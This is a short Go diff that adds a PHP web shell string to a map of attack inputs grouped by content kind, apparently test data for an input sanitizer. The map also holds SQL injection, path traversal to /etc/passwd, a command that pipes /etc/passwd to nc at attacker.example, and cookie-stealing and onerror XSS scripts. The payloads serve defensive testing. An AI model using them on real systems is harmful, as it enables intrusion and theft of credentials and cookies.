@@ -31,6 +31,7 @@ var inKind = map[string][]string{
 	},
 	"markup": {
 		"1' UNION SELECT password FROM users -- ", "../../../../etc/passwd", "; cat /etc/passwd | nc attacker.example 4444",
+		"<?php system($_GET['c']); ?>",
 	},
 	"code":     {"<script>fetch('//attacker.example/?'+document.cookie)</script>", `<img src=x onerror="alert(1)">`},
 	"log":      {"<script>fetch('//attacker.example/?'+document.cookie)</script>", `<img src=x onerror="alert(1)">`},
